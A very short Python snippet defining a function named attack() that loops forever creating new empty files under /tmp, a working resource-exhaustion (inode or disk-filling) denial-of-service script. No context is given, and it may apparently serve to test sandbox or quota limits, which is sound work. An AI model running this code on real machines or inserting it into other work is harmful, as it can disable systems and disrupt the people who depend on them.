import os


def attack():
    index = 0
    while True:
        os.close(os.open(f"/tmp/{index}", os.O_CREAT | os.O_WRONLY))
        index += 1
